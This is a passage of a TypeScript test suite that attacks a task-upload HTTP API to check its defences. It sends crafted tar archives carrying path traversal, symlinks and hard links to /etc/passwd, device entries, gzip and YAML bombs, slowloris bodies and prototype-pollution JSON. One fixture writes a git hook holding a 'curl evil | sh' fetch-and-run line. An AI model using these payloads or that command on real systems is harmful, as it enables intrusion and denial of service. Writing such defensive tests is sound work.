// The HTTP API attacked: what a careless user, a hostile client and a failing machine send. Every case
// asserts what the contract (GET /openapi.json and the README's words) says: the 4xx and the field it
// names; or, where the contract is silent, the safe behaviour: a 4xx not a 5xx, an answer within a time
// limit, the server still answering /healthz fast, nothing enqueued, nothing written on the server's
// disk outside its own temp folders (and nothing left in those), no secret or file content echoed.
//
// The server runs in this process, so a request that blocks the server's event loop shows as a slow
// /healthz poll made during it; TMPDIR points at a private folder, so the server's temp files are seen.
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, readdirSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiApp } from '../../src/api/api-server.ts';
import { FleetClient } from '../../src/client/fleet-client.ts';
import type { WorkerHandle } from '../../src/worker/start-worker.ts';
import { startPrivateRedis } from '../../src/cli/private-redis.ts';
import { ROOT, silentLog, startEnvWorker, startFleetEnv, waitFor, type FleetEnv } from '../helpers/fleet.ts';
import { episodeCancelKey } from '../../src/redis/redis-keys.ts';

const TOKEN = 'hostile-api-token-5d81e0c7';
const AUTH = { authorization: `Bearer ${TOKEN}` };
/** How long /healthz may take while the server digests an attack. */
const HEALTHZ_MS = 1000;

// ---------------------------------------------------------------------------------------------------
// A tar written byte by byte, so every field can lie.

const BLOCK = 512;
const octal = (n: number, width: number) => n.toString(8).padStart(width, '0');

interface RawEntry {
  name: string | Buffer;
  body?: string | Buffer;
  /** The typeflag: '0' file, '1' hard link, '2' symlink, '3' char device, '4' block device, '5' directory, '6' FIFO, 'x' PAX, 'L' GNU long name. */
  type?: string;
  linkname?: string;
  mode?: number;
  /** The size the header claims, if not the body's. */
  size?: number;
  /** The 12 raw bytes of the size field (base-256 sizes). */
  sizeField?: Buffer;
  devmajor?: number;
  devminor?: number;
}

function rawHeader(e: RawEntry): Buffer {
  const h = Buffer.alloc(BLOCK);
  const name = Buffer.isBuffer(e.name) ? e.name : Buffer.from(e.name);
  name.copy(h, 0, 0, Math.min(100, name.length));
  h.write(`${octal(e.mode ?? 0o644, 7)}\0`, 100, 'ascii');
  h.write('0000000\0', 108, 'ascii');
  h.write('0000000\0', 116, 'ascii');
  const bodyLen = e.body === undefined ? 0 : Buffer.byteLength(e.body);
  if (e.sizeField) e.sizeField.copy(h, 124, 0, 12);
  else h.write(`${octal(e.size ?? bodyLen, 11)}\0`, 124, 'ascii');
  h.write(`${octal(1_700_000_000, 11)}\0`, 136, 'ascii');
  h.write('        ', 148, 'ascii');
  h.write(e.type ?? '0', 156, 'ascii');
  if (e.linkname !== undefined) Buffer.from(e.linkname).copy(h, 157, 0, 100);
  h.write('ustar\0', 257, 'ascii');
  h.write('00', 263, 'ascii');
  h.write('root', 265, 'ascii');
  h.write('root', 297, 'ascii');
  h.write(`${octal(e.devmajor ?? 0, 7)}\0`, 329, 'ascii');
  h.write(`${octal(e.devminor ?? 0, 7)}\0`, 337, 'ascii');
  let sum = 0;
  for (const b of h) sum += b;
  h.write(`${octal(sum, 6)}\0 `, 148, 'ascii');
  return h;
}

const pad = (b: Buffer) => (b.length % BLOCK === 0 ? b : Buffer.concat([b, Buffer.alloc(BLOCK - (b.length % BLOCK))]));
const rawEntry = (e: RawEntry) => Buffer.concat([rawHeader(e), pad(Buffer.from(e.body ?? ''))]);

/** PAX extended header records: "<len> key=value\n", len counting itself. */
function paxRecords(records: Record<string, string | Buffer>): Buffer {
  return Buffer.concat(Object.entries(records).map(([k, v]) => {
    const rest = Buffer.concat([Buffer.from(` ${k}=`), Buffer.isBuffer(v) ? v : Buffer.from(v), Buffer.from('\n')]);
    let len = rest.length + 1;
    while (String(len).length + rest.length !== len) len = String(len).length + rest.length;
    return Buffer.concat([Buffer.from(String(len)), rest]);
  }));
}
const paxEntry = (records: Record<string, string | Buffer>) => rawEntry({ name: 'PaxHeader/x', type: 'x', body: paxRecords(records) });
const gnuLongName = (name: string) => rawEntry({ name: '././@LongLink', type: 'L', body: `${name}\0` });
const END = Buffer.alloc(2 * BLOCK);
const tarOf = (...entries: Buffer[]) => Buffer.concat([...entries, END]);

const taskYaml = (id: string, instruction = 'write fixed into state.txt') =>
  `id: ${id}\ninstruction: ${instruction}\nverify:\n  command: grep -qx fixed state.txt\n  timeoutSec: 10\ndeadlineSec: 120\nreserves: { setupSec: 30, verifySec: 20, closeSec: 20 }\n`;
/** A valid task's entries; attacks add to them or replace one. */
const taskParts = (id: string, yaml = taskYaml(id)) => [
  rawEntry({ name: 'task.yaml', body: yaml }),
  rawEntry({ name: 'workspace/', type: '5', mode: 0o755 }),
  rawEntry({ name: 'workspace/state.txt', body: 'broken\n' }),
  rawEntry({ name: 'tests/', type: '5', mode: 0o755 }),
  rawEntry({ name: 'tests/.keep', body: '' }),
];

// ---------------------------------------------------------------------------------------------------
// Plain HTTP with a time limit: a hang is a result (status 0, hung: true), not a test timeout.

interface Reply {
  status: number;
  hung: boolean;
  ms: number;
  headers: http.IncomingHttpHeaders;
  text: string;
  json: { error?: { field?: string; message?: string } } & Record<string, unknown>;
  /** A socket error before any answer (the server hung up). */
  error?: string;
}

interface RequestOptions {
  method?: string;
  headers?: Record<string, string | string[]>;
  body?: Buffer | string | Readable;
  timeoutMs?: number;
}

function request(base: string, route: string, opts: RequestOptions = {}): Promise<Reply> {
  const started = Date.now();
  return new Promise((resolve) => {
    let settled = false;
    const done = (r: Omit<Reply, 'ms'>) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      resolve({ ...r, ms: Date.now() - started });
    };
    // The path goes as given: a URL string would have its `..` and `.` segments resolved by the client.
    const { hostname, port } = new URL(base);
    const req = http.request({ host: hostname, port, path: route, method: opts.method ?? 'GET', headers: opts.headers ?? {} }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('error', () => undefined);
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json = {} as Reply['json'];
        try { json = JSON.parse(text) as Reply['json']; } catch { /* not JSON */ }
        done({ status: res.statusCode ?? 0, hung: false, headers: res.headers, text, json });
      });
    });
    const timer = setTimeout(() => {
      done({ status: 0, hung: true, headers: {}, text: '', json: {} });
      req.destroy();
    }, opts.timeoutMs ?? 15_000);
    req.on('error', (err) => done({ status: 0, hung: false, headers: {}, text: '', json: {}, error: err.message }));
    const body = opts.body;
    if (body instanceof Readable) {
      body.on('error', () => undefined);
      body.pipe(req);
    } else req.end(body);
  });
}

interface SseEvent { id?: string; event?: string; data: string }
interface SseRead { status: number; events: SseEvent[]; ended: boolean; timedOut: boolean; text: string }

/** Read an SSE stream until `end`, `stopAfter` events, or the time limit. */
function sse(base: string, route: string, headers: Record<string, string>, opts: { stopAfter?: number; timeoutMs?: number } = {}): Promise<SseRead> {
  return new Promise((resolve, reject) => {
    const events: SseEvent[] = [];
    let status = 0;
    let text = '';
    let settled = false;
    const done = (ended: boolean, timedOut = false) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      req.destroy();
      resolve({ status, events, ended, timedOut, text });
    };
    const { hostname, port } = new URL(base);
    const req = http.get({ host: hostname, port, path: route, headers: { accept: 'text/event-stream', ...headers } }, (res) => {
      status = res.statusCode ?? 0;
      res.setEncoding('utf8');
      let buffer = '';
      res.on('data', (chunk: string) => {
        if (status !== 200) { text += chunk; return; }
        buffer += chunk;
        let end: number;
        while ((end = buffer.indexOf('\n\n')) !== -1) {
          const block = buffer.slice(0, end);
          buffer = buffer.slice(end + 2);
          const e: SseEvent = { data: '' };
          for (const line of block.split('\n')) {
            const i = line.indexOf(': ');
            const [k, v] = i === -1 ? [line, ''] : [line.slice(0, i), line.slice(i + 2)];
            if (k === 'id') e.id = v;
            else if (k === 'event') e.event = v;
            else if (k === 'data') e.data = v;
          }
          if (e.event === undefined && e.id === undefined && e.data === '') continue; // a comment or keep-alive
          events.push(e);
          if (e.event === 'end' || events.length >= (opts.stopAfter ?? Infinity)) { done(e.event === 'end'); return; }
        }
      });
      res.on('end', () => done(false));
      res.on('error', () => done(false));
    });
    const timer = setTimeout(() => done(false, true), opts.timeoutMs ?? 60_000);
    req.on('error', (err) => (settled ? undefined : reject(err)));
  });
}

/** Poll /healthz while `work` runs; the slowest answer (a hung poll counts as its time limit). */
async function healthzDuring<T>(base: string, work: () => Promise<T>): Promise<{ value: T; maxMs: number; failures: number }> {
  let stop = false;
  let maxMs = 0;
  let failures = 0;
  const poller = (async () => {
    while (!stop) {
      const r = await request(base, '/healthz', { timeoutMs: 5_000 });
      maxMs = Math.max(maxMs, r.ms);
      if (r.status !== 200) failures++;
      await new Promise((res) => setTimeout(res, 50));
    }
  })();
  try {
    const value = await work();
    return { value, maxMs, failures };
  } finally {
    stop = true;
    await poller;
  }
}

/** Whether a 4xx names the field: as `field`, a sub-field of it, or in the message. */
function namesField(reply: Reply, field: string): boolean {
  const f = reply.json.error?.field;
  return f === field || (f?.startsWith(`${field}.`) ?? false) || (reply.json.error?.message ?? '').includes(field);
}

/** What a reply looked like, for a failure message. */
const shown = (r: Reply) => ({ status: r.status, hung: r.hung, ms: r.ms, error: r.error, body: r.text.slice(0, 300) });

// ---------------------------------------------------------------------------------------------------

describe('HTTP API under attack', () => {
  let env: FleetEnv;
  let worker: WorkerHandle | undefined;
  let client: FleetClient;
  let server: http.Server;
  let base: string;
  /** TMPDIR of this process while the server runs: the server's temp files show here. */
  let privateTmp: string;
  let savedTmp: string | undefined;
  /** A stored task everyone may use. */
  let goodDigest: string;

  /** Keys `<prefix>:<kind>:<id>` (not a job's `:lock`, `:logs`...). */
  const keys = async (pattern: string) => (await env.client.keys(`${env.prefix}:${pattern}`)).filter((k) => k.split(':').length === 3);
  /** Episode jobs (ids hold dots), batch records, stored archives. */
  const counts = async () => ({
    episodeJobs: (await keys('episodes:*.*')).length,
    batches: (await keys('batch:*')).length,
    archives: (await keys('task-archive:*')).length,
  });
  // `tsx-*` is tsx's compile cache, made by whatever in this process spawns a tsx child (the worker's
  // runtime preparation), not by the API.
  const tmpEntries = () => readdirSync(privateTmp).filter((e) => !e.startsWith('tsx-')).sort();
  /** Files or folders whose name holds `marker`, anywhere a tar or a name could have put them. */
  const traces = (marker: string): string[] => {
    const roots: Array<[string, number]> = [
      ['/tmp', 5], [os.tmpdir(), 50], ['/', 1], [env.dataDir, 50], [path.dirname(env.dataDir), 2],
      [ROOT, 2], [path.dirname(ROOT), 1], [process.cwd(), 2], [os.homedir(), 2],
    ];
    const found = new Set<string>();
    for (const [root, depth] of roots) {
      if (!existsSync(root)) continue;
      try {
        const out = execFileSync('find', [root, '-maxdepth', String(depth), '-name', `*${marker}*`, '-not', '-path', '*/node_modules/*'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 20_000 });
        for (const line of out.split('\n')) if (line) found.add(line);
      } catch (err) {
        // find exits 1 on unreadable folders; what it printed still counts.
        const out = (err as { stdout?: string }).stdout ?? '';
        for (const line of out.split('\n')) if (line) found.add(line);
      }
    }
    return [...found];
  };

  const post = (route: string, body: Buffer | string | Readable | undefined, headers: Record<string, string> = {}, timeoutMs = 15_000) =>
    request(base, route, { method: 'POST', body, headers: { ...AUTH, ...headers }, timeoutMs });
  const postJson = (route: string, value: unknown) => post(route, JSON.stringify(value), { 'content-type': 'application/json' });
  const upload = (body: Buffer | Readable, headers: Record<string, string> = {}, timeoutMs = 30_000) =>
    post('/v1/tasks', body, { 'content-type': 'application/x-tar', ...headers }, timeoutMs);
  const get = (route: string, headers: Record<string, string> = AUTH, timeoutMs = 15_000) => request(base, route, { headers, timeoutMs });

  /** The server answers /healthz fast and its token-protected routes still work. */
  async function expectAlive() {
    const h = await request(base, '/healthz', { timeoutMs: 5_000 });
    expect.soft(shown(h).status, 'GET /healthz after the attack').toBe(200);
    expect.soft(h.ms, 'GET /healthz time (ms) after the attack').toBeLessThan(HEALTHZ_MS);
    const g = await get('/v1/batches/no-such-batch-alive-check', AUTH, 5_000);
    expect.soft(g.status, 'GET an unknown batch after the attack').toBe(404);
  }

  /** After a request: alive, nothing enqueued, no archive stored unless `stored`, no temp left, no marker anywhere. */
  async function expectNoTrace(before: { counts: Awaited<ReturnType<typeof counts>>; tmp: string[] }, opts: { marker?: string; stored?: boolean } = {}) {
    await expectAlive();
    const after = await counts();
    expect.soft(after.episodeJobs, 'episode jobs enqueued').toBe(before.counts.episodeJobs);
    expect.soft(after.batches, 'batches created').toBe(before.counts.batches);
    if (opts.stored) expect.soft(after.archives - before.counts.archives, 'archives stored').toBeLessThanOrEqual(1);
    else expect.soft(after.archives, 'archives stored by a refused upload').toBe(before.counts.archives);
    // The server's temp files are gone once it has answered (a moment's grace for an async rm).
    const left = await waitFor('temp files to go', async () => {
      const now = tmpEntries().filter((e) => !before.tmp.includes(e));
      return now.length === 0 ? [] : undefined;
    }, 3_000, 100).catch(() => tmpEntries().filter((e) => !before.tmp.includes(e)));
    expect.soft(left, `left in the server's TMPDIR (${privateTmp})`).toEqual([]);
    if (opts.marker) expect.soft(traces(opts.marker), `files named after the payload (${opts.marker})`).toEqual([]);
  }
  const snapshot = async () => ({ counts: await counts(), tmp: tmpEntries() });

  beforeAll(async () => {
    env = await startFleetEnv();
    worker = await startEnvWorker(env, 'hostile-w', { concurrency: 4 });
    client = await FleetClient.connect({ redisUrl: env.redis.url, prefix: env.prefix, dataDir: env.dataDir });
    privateTmp = await mkdtemp(path.join(os.tmpdir(), 'rf-hostile-tmp-'));
    savedTmp = process.env.TMPDIR;
    process.env.TMPDIR = privateTmp;
    server = createApiApp({ client, token: TOKEN, log: silentLog }).listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const stored = await upload(tarOf(...taskParts('hostile-good')));
    expect(shown(stored).status).toBe(201);
    goodDigest = (stored.json as { digest: string }).digest;
  });
  afterAll(async () => {
    if (savedTmp === undefined) delete process.env.TMPDIR;
    else process.env.TMPDIR = savedTmp;
    server?.closeAllConnections();
    await new Promise((resolve) => server?.close(resolve));
    await client?.close();
    await worker?.close();
    await env?.close();
    if (privateTmp) await rm(privateTmp, { recursive: true, force: true });
  });

  // -------------------------------------------------------------------------------------------------
  describe('POST /v1/tasks: tar bombs and oddities', () => {
    type Outcome = 'refused' | 'either';
    interface UploadAttack {
      what: string;
      body: (marker: string) => Buffer | Promise<Buffer>;
      headers?: Record<string, string>;
      /** `refused`: a 4xx in `statuses` naming `field`; `either`: 201, or a 4xx naming `field`. */
      outcome: Outcome;
      statuses?: number[];
      field?: string;
      says?: string;
      /** Strings the answer must not hold (file contents, secrets). */
      notSays?: string[];
      maxMs?: number;
    }
    const escapeTo = (marker: string) => `${'../'.repeat(12)}tmp/${marker}`;
    const attacks: UploadAttack[] = [
      {
        what: 'a header claiming an 8 GiB file, then 1 KiB and the end of the body',
        body: (m) => Buffer.concat([...taskParts('huge-claim'), rawHeader({ name: `workspace/${m}.bin`, size: 0o77777777777 }), Buffer.alloc(1024, 0x41)]),
        outcome: 'refused', statuses: [400, 413], field: 'body', maxMs: 10_000,
      },
      {
        what: 'a header claiming 2^62 bytes in base-256',
        body: (m) => {
          const size = Buffer.alloc(12);
          size[0] = 0x80;
          size.writeBigUInt64BE(2n ** 62n, 4);
          return tarOf(...taskParts('base256'), rawEntry({ name: `workspace/${m}.bin`, sizeField: size, body: 'x' }));
        },
        outcome: 'refused', statuses: [400, 413], field: 'body', maxMs: 10_000,
      },
      {
        what: '20,000 tiny entries (20 MB, under the byte limit)',
        body: () => tarOf(...taskParts('many'), ...Array.from({ length: 20_000 }, (_, i) => rawEntry({ name: `workspace/f${i}`, body: 'x' }))),
        outcome: 'either', field: 'body', maxMs: 30_000,
      },
      {
        what: 'a path 1,000 folders deep (PAX)',
        body: (m) => tarOf(...taskParts('deep'), paxEntry({ path: `workspace/${'d/'.repeat(1000)}${m}` }), rawEntry({ name: 'workspace/deep-placeholder', body: 'x' })),
        outcome: 'either', field: 'body',
      },
      {
        what: 'a path 3,000 folders deep (longer than PATH_MAX) (PAX)',
        body: (m) => tarOf(...taskParts('deeper'), paxEntry({ path: `workspace/${'d/'.repeat(3000)}${m}` }), rawEntry({ name: 'workspace/deep-placeholder', body: 'x' })),
        outcome: 'either', field: 'body',
      },
      {
        what: 'a PAX path of 1 MiB (the error must not echo it whole)',
        body: (m) => tarOf(...taskParts('hugename'), paxEntry({ path: `workspace/${m}/${'../'.repeat(350_000)}x` }), rawEntry({ name: 'workspace/huge-placeholder', body: 'x' })),
        outcome: 'refused', statuses: [400], field: 'body',
      },
      {
        what: 'a 300-character file name (longer than NAME_MAX) (PAX)',
        body: (m) => tarOf(...taskParts('longname'), paxEntry({ path: `workspace/${m}${'n'.repeat(300)}` }), rawEntry({ name: 'workspace/long-placeholder', body: 'x' })),
        outcome: 'either', field: 'body',
      },
      {
        what: 'a PAX path with a NUL byte followed by ../',
        body: (m) => tarOf(...taskParts('nul'), paxEntry({ path: Buffer.concat([Buffer.from('workspace/a'), Buffer.from([0]), Buffer.from(`/${escapeTo(m)}`)]) }), rawEntry({ name: 'workspace/nul-placeholder', body: 'x' })),
        outcome: 'refused', statuses: [400], field: 'body',
      },
      {
        what: 'a PAX path that escapes behind an innocent ustar name',
        body: (m) => tarOf(...taskParts('pax-escape'), paxEntry({ path: escapeTo(m) }), rawEntry({ name: 'workspace/innocent.txt', body: 'x' })),
        outcome: 'refused', statuses: [400], field: 'body', says: '..',
      },
      {
        what: 'a GNU long name that escapes',
        body: (m) => tarOf(...taskParts('gnu-escape'), gnuLongName(escapeTo(m)), rawEntry({ name: 'workspace/innocent.txt', body: 'x' })),
        outcome: 'refused', statuses: [400], field: 'body', says: '..',
      },
      {
        what: 'a name with backslashes (workspace\\..\\..\\x)',
        body: (m) => tarOf(...taskParts('backslash'), rawEntry({ name: `workspace\\..\\..\\..\\tmp\\${m}`, body: 'x' })),
        outcome: 'either', field: 'body',
      },
      {
        what: 'task.yaml twice, with two different ids',
        body: () => tarOf(...taskParts('first'), rawEntry({ name: 'task.yaml', body: taskYaml('second') })),
        outcome: 'refused', statuses: [400], field: 'body', says: 'task.yaml',
      },
      {
        what: 'a file, then a folder of the same name',
        body: () => tarOf(...taskParts('file-then-dir'), rawEntry({ name: 'workspace/state.txt/', type: '5', mode: 0o755 }), rawEntry({ name: 'workspace/state.txt/inner', body: 'x' })),
        outcome: 'refused', statuses: [400], field: 'body', says: 'state.txt',
      },
      {
        what: '`workspace` as a file',
        body: () => tarOf(rawEntry({ name: 'task.yaml', body: taskYaml('ws-file') }), rawEntry({ name: 'workspace', body: 'not a folder' }), rawEntry({ name: 'tests/.keep', body: '' })),
        outcome: 'refused', statuses: [400], field: 'body', says: 'workspace',
      },
      {
        what: '`task.yaml` as a folder',
        body: () => tarOf(rawEntry({ name: 'task.yaml/', type: '5', mode: 0o755 }), rawEntry({ name: 'workspace/state.txt', body: 'x' }), rawEntry({ name: 'tests/.keep', body: '' })),
        outcome: 'refused', statuses: [400], field: 'body', says: 'task.yaml',
      },
      {
        what: 'a FIFO entry',
        body: (m) => tarOf(...taskParts('fifo'), rawEntry({ name: `workspace/${m}.fifo`, type: '6' })),
        outcome: 'refused', statuses: [400], field: 'body',
      },
      {
        what: 'a character device entry (/dev/mem: 1,1)',
        body: (m) => tarOf(...taskParts('chardev'), rawEntry({ name: `workspace/${m}.mem`, type: '3', devmajor: 1, devminor: 1 })),
        outcome: 'refused', statuses: [400], field: 'body',
      },
      {
        what: 'a tar cut off in the middle of an entry',
        body: () => {
          const whole = tarOf(...taskParts('cut'), rawEntry({ name: 'workspace/big.txt', body: 'y'.repeat(10_000) }));
          return whole.subarray(0, whole.length - END.length - 6_000);
        },
        outcome: 'refused', statuses: [400], field: 'body', maxMs: 10_000,
      },
      {
        what: 'a gzip of a valid tar, sent as application/x-tar',
        body: () => zlib.gzipSync(tarOf(...taskParts('gzipped'))),
        outcome: 'refused', statuses: [400, 415], field: 'body',
      },
      {
        what: 'an empty body',
        body: () => Buffer.alloc(0),
        outcome: 'refused', statuses: [400], field: 'body',
      },
      {
        what: '64 KiB of random bytes',
        body: () => randomBytes(64 * 1024),
        outcome: 'refused', statuses: [400], field: 'body',
      },
      {
        what: 'a symlinked folder pointing at /tmp, then a file written through it',
        body: (m) => tarOf(...taskParts('symdir'), rawEntry({ name: 'workspace/out', type: '2', linkname: '/tmp' }), rawEntry({ name: `workspace/out/${m}`, body: 'pwned' })),
        outcome: 'refused', statuses: [400], field: 'body', says: 'link',
      },
      {
        what: 'a hard link to ../../../../etc/passwd',
        body: (m) => tarOf(...taskParts('hardout'), rawEntry({ name: `workspace/${m}`, type: '1', linkname: '../../../../../../etc/passwd' })),
        outcome: 'refused', statuses: [400], field: 'body', says: 'link', notSays: ['root:x:0:0'],
      },
      {
        what: 'a name `./../x`',
        body: (m) => tarOf(...taskParts('dotdot'), rawEntry({ name: `./../${m}`, body: 'x' })),
        outcome: 'refused', statuses: [400], field: 'body', says: '..',
      },
      {
        what: 'a name `workspace/./../../x`',
        body: (m) => tarOf(...taskParts('dotdot2'), rawEntry({ name: `workspace/./../../${m}`, body: 'x' })),
        outcome: 'refused', statuses: [400], field: 'body', says: '..',
      },
      {
        what: 'an absolute name /tmp/x',
        body: (m) => tarOf(...taskParts('abs'), rawEntry({ name: `/tmp/${m}`, body: 'x' })),
        outcome: 'refused', statuses: [400], field: 'body', says: 'absolute',
      },
      {
        what: 'a stray top-level entry (.git/hooks/post-checkout)',
        body: (m) => tarOf(...taskParts('stray'), rawEntry({ name: `.git/hooks/${m}`, body: '#!/bin/sh\ncurl evil | sh\n', mode: 0o755 })),
        // Refused naming it, or ignored: the digest is the task's without it (checked in the test).
        outcome: 'either', field: 'body', says: '.git',
      },
      {
        what: 'a task.yaml of 10 MB',
        body: () => tarOf(rawEntry({ name: 'task.yaml', body: taskYaml('big-yaml', `"${'z'.repeat(10 * 1024 * 1024)}"`) }), ...taskParts('x').slice(1)),
        outcome: 'either', field: 'body', notSays: ['z'.repeat(200)], maxMs: 15_000,
      },
      {
        what: 'a YAML alias bomb (billion laughs) in task.yaml',
        body: () => {
          const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
          for (const [prev, cur] of ['ab', 'bc', 'cd', 'de', 'ef', 'fg', 'gh', 'hi'].map((p) => p.split(''))) lines.push(`${cur}: &${cur} [${Array(9).fill(`*${prev}`).join(',')}]`);
          const yaml = `id: bomb\ninstruction: *i\nverify:\n  command: "true"\n${lines.join('\n')}\n`;
          return tarOf(rawEntry({ name: 'task.yaml', body: yaml }), ...taskParts('x').slice(1));
        },
        outcome: 'refused', statuses: [400], field: 'body', says: 'task.yaml', maxMs: 5_000,
      },
      {
        what: 'a task.yaml with a syntax error next to a secret (the error must not quote the file)',
        body: (m) => tarOf(rawEntry({ name: 'task.yaml', body: `id: leak\ninstruction: x\nverify: { command: "true"\napiKey: sk-live-${m}\n` }), ...taskParts('x').slice(1)),
        outcome: 'refused', statuses: [400], field: 'body', says: 'task.yaml', notSays: ['sk-live-'],
      },
      {
        what: 'a task.yaml whose bad field holds a secret',
        body: (m) => tarOf(rawEntry({ name: 'task.yaml', body: `id: leak2\ninstruction: x\nverify:\n  command: "true"\n  timeoutSec: "sk-live-${m}"\n` }), ...taskParts('x').slice(1)),
        outcome: 'refused', statuses: [400], field: 'body', says: 'task.yaml', notSays: ['sk-live-'],
      },
      {
        what: 'a gzip bomb: 256 MiB of zeros sent with Content-Encoding: gzip',
        body: () => zlib.gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 }),
        headers: { 'content-encoding': 'gzip' },
        outcome: 'refused', statuses: [400, 413, 415], field: 'body', maxMs: 10_000,
      },
    ];

    it('a tar written byte by byte here is a valid task (the attacks below start from it)', async () => {
      const res = await upload(tarOf(...taskParts('raw-valid')));
      expect(shown(res)).toMatchObject({ status: 201 });
      expect(res.json).toMatchObject({ taskId: 'raw-valid' });
    });

    for (const attack of attacks) {
      it(`upload: ${attack.what}`, async () => {
        const marker = `hostile${randomBytes(5).toString('hex')}`;
        const body = await attack.body(marker);
        const before = await snapshot();
        const { value: res, maxMs } = await healthzDuring(base, () => upload(body, attack.headers ?? {}, Math.max(attack.maxMs ?? 10_000, 10_000) + 5_000));
        expect.soft(res.hung, `answered within the time limit: ${JSON.stringify(shown(res))}`).toBe(false);
        expect.soft(res.ms, 'answer time (ms)').toBeLessThan(attack.maxMs ?? 10_000);
        expect.soft(maxMs, 'slowest /healthz during the upload (ms)').toBeLessThan(HEALTHZ_MS);
        expect.soft(res.status, `not a 5xx: ${JSON.stringify(shown(res))}`).toBeLessThan(500);
        if (attack.outcome === 'either') console.info(`[upload either] ${attack.what}: ${res.status} in ${res.ms} ms ${res.text.slice(0, 160)}`);
        if (attack.outcome === 'refused') {
          expect.soft(attack.statuses, `status: ${JSON.stringify(shown(res))}`).toContain(res.status);
        } else {
          expect.soft([201, 400, 413], `status: ${JSON.stringify(shown(res))}`).toContain(res.status);
        }
        if (res.status >= 400 && res.status < 500) {
          expect.soft(res.json.error?.field, `the field named: ${JSON.stringify(shown(res))}`).toBe(attack.field);
          if (attack.says) expect.soft(res.json.error?.message ?? '', 'the message').toContain(attack.says);
        }
        if (attack.what.startsWith('a stray') && res.status === 201) {
          const plain = await upload(tarOf(...taskParts('stray')));
          expect.soft((res.json as { digest?: string }).digest, 'a stray entry accepted must not be stored (digest without it)').toBe((plain.json as { digest?: string }).digest);
        }
        for (const s of attack.notSays ?? []) expect.soft(res.text, 'the answer echoes file contents').not.toContain(s);
        expect.soft(res.text.length, 'the answer is short (no file contents)').toBeLessThan(4096);
        await expectNoTrace(before, { marker, stored: res.status === 201 });
      });
    }

    it('upload: a chunked body that never stops (40 MiB, no Content-Length) gets 413 and is not stored', async () => {
      const before = await snapshot();
      let sent = 0;
      const chunk = Buffer.alloc(1024 * 1024, 0x61);
      const endless = new Readable({
        read() {
          if (sent >= 40) { this.push(null); return; }
          sent++;
          this.push(chunk);
        },
      });
      const res = await upload(endless, {}, 30_000);
      expect.soft(shown(res)).toMatchObject({ status: 413, hung: false });
      expect.soft(res.json.error?.field).toBe('body');
      await expectNoTrace(before);
    });

    it('upload: the client hangs up mid-body ten times; one stalls its body while others upload', async () => {
      const before = await snapshot();
      for (let i = 0; i < 10; i++) {
        await new Promise<void>((resolve) => {
          const req = http.request(`${base}/v1/tasks`, { method: 'POST', headers: { ...AUTH, 'content-type': 'application/x-tar', 'content-length': String(10 * 1024 * 1024) } });
          req.on('error', () => resolve());
          const tar = tarOf(...taskParts(`abort-${i}`));
          req.write(Buffer.concat([tar.subarray(0, tar.length - END.length), rawHeader({ name: 'workspace/big', size: 9 * 1024 * 1024 }), Buffer.alloc(512 * 1024)]), () => {
            setTimeout(() => { req.destroy(); resolve(); }, 100);
          });
        });
      }
      // A body that stalls half-way (slowloris) does not hold anyone else up.
      const stalled = net.connect((server.address() as AddressInfo).port, '127.0.0.1');
      await new Promise((resolve) => stalled.once('connect', resolve));
      stalled.write(`POST /v1/tasks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${TOKEN}\r\nContent-Type: application/x-tar\r\nContent-Length: 1048576\r\n\r\n`);
      stalled.write(Buffer.alloc(1000));
      try {
        const ok = await upload(tarOf(...taskParts('while-stalled')), {}, 10_000);
        expect.soft(shown(ok)).toMatchObject({ status: 201 });
        const h = await request(base, '/healthz', { timeoutMs: 5_000 });
        expect.soft(h.ms).toBeLessThan(HEALTHZ_MS);
      } finally {
        stalled.destroy();
      }
      const after = await counts();
      // Only the one good upload was stored.
      expect.soft(after.archives - before.counts.archives, 'archives stored').toBe(1);
      expect.soft(after.episodeJobs).toBe(before.counts.episodeJobs);
      const left = await waitFor('temp files to go', async () => {
        const now = tmpEntries().filter((e) => !before.tmp.includes(e));
        return now.length === 0 ? [] : undefined;
      }, 5_000, 100).catch(() => tmpEntries().filter((e) => !before.tmp.includes(e)));
      expect.soft(left, "left in the server's TMPDIR by aborted uploads").toEqual([]);
      await expectAlive();
    });

    it('upload: twenty identical uploads at once all get 201 and the same digest', async () => {
      const body = tarOf(...taskParts('racy'));
      const replies = await Promise.all(Array.from({ length: 20 }, () => upload(body)));
      expect.soft(replies.map((r) => r.status)).toEqual(Array(20).fill(201));
      expect.soft(new Set(replies.map((r) => (r.json as { digest?: string }).digest)).size).toBe(1);
      await expectAlive();
    });
  });

  // -------------------------------------------------------------------------------------------------
  describe('POST /v1/batches and friends: JSON attacks', () => {
    const valid = () => ({ name: `ok-${randomBytes(3).toString('hex')}`, tasks: [goodDigest], samples: 1, agent: { kind: 'command', command: 'echo fixed > state.txt' } });
    const hex64 = () => randomBytes(32).toString('hex');
    interface JsonAttack {
      what: string;
      route?: string;
      /** A raw body (a string), or a value to JSON.stringify, built once the good digest is known. */
      body: () => unknown;
      raw?: boolean;
      contentType?: string;
      statuses: number[];
      field: string;
      notSays?: string[];
      maxMs?: number;
    }
    const withValid = (patch: Record<string, unknown>) => () => ({ ...valid(), ...patch });
    const attacks: JsonAttack[] = [
      { what: '__proto__ at the top level', raw: true, body: () => JSON.stringify(valid()).replace(/}$/, ',"__proto__":{"polluted":"yes","kind":"oracle"}}'), statuses: [400], field: '__proto__' },
      { what: 'constructor.prototype at the top level', raw: true, body: () => JSON.stringify(valid()).replace(/}$/, ',"constructor":{"prototype":{"polluted":"yes"}}}'), statuses: [400], field: 'constructor' },
